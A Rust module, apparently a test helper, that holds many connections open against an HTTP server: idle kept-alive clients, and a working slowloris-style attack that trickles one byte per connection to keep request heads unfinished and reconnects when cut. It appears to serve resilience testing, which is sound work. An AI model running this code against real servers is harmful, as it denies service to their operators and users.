//! Clients that only hold connections: idle ones after a request, and slow ones in the middle of a head.
use anyhow::Context;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

/// What a slow client begins with.
const BEGUN: &[u8] = b"GET / HTTP/1.1\r\nHost: hostile.example\r\nX-Slow: ";
const WHOLE: &[u8] = b"GET / HTTP/1.1\r\nHost: hostile.example\r\n\r\n";
/// All slow clients send a byte each in this time.
const ROUND: Duration = Duration::from_secs(10);

fn connect(to: SocketAddr, first: &[u8]) -> std::io::Result<TcpStream> {
    let mut stream = TcpStream::connect(to)?;
    stream.set_nodelay(true)?;
    stream.write_all(first)?;
    Ok(stream)
}

/// Connections that were served once and are kept.
pub struct Idle {
    _streams: Vec<TcpStream>,
}

impl Idle {
    /// Opens `count` of them.
    pub fn open(to: SocketAddr, count: usize) -> anyhow::Result<Self> {
        let mut streams = Vec::with_capacity(count);
        let mut answer = [0; 4096];
        for number in 0..count {
            let mut stream = connect(to, WHOLE).with_context(|| format!("idle connection {number}"))?;
            anyhow::ensure!(stream.read(&mut answer)? > 0, "idle connection {number} was closed");
            streams.push(stream);
        }
        Ok(Self { _streams: streams })
    }
}

/// Slow clients, for as long as this runs.
pub struct Attack {
    stop: Arc<AtomicBool>,
    there: Arc<AtomicUsize>,
    thread: JoinHandle<()>,
}

impl Attack {
    /// Returns when all are connected.
    pub fn start(to: SocketAddr, count: usize) -> anyhow::Result<Self> {
        let streams: Vec<Option<TcpStream>> = (0..count)
            .map(|number| connect(to, BEGUN).map(Some).with_context(|| format!("slow client {number}")))
            .collect::<anyhow::Result<_>>()?;
        let (stop, there) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicUsize::new(count)));
        let (told, counted) = (Arc::clone(&stop), Arc::clone(&there));
        let thread = std::thread::spawn(move || trickle(to, streams, &told, &counted));
        Ok(Self { stop, there, thread })
    }

    /// Ends them; how many there were in the last round.
    pub fn stop(self) -> usize {
        self.stop.store(true, Ordering::Relaxed);
        if self.thread.join().is_err() {
            return 0;
        }
        self.there.load(Ordering::Relaxed)
    }
}

/// One byte from each in turn. One that was cut comes back.
fn trickle(to: SocketAddr, mut streams: Vec<Option<TcpStream>>, stop: &AtomicBool, there: &AtomicUsize) {
    let batch = streams.len().div_ceil(1_000).max(1);
    let pause = ROUND / u32::try_from(streams.len().div_ceil(batch).max(1)).unwrap_or(u32::MAX);
    loop {
        for some in streams.chunks_mut(batch) {
            for slot in some {
                let alive = slot.as_mut().is_some_and(|stream| stream.write_all(b"x").is_ok());
                if !alive {
                    *slot = connect(to, BEGUN).ok();
                }
            }
            std::thread::sleep(pause);
            if stop.load(Ordering::Relaxed) {
                there.store(streams.iter().flatten().count(), Ordering::Relaxed);
                return;
            }
        }
    }
}
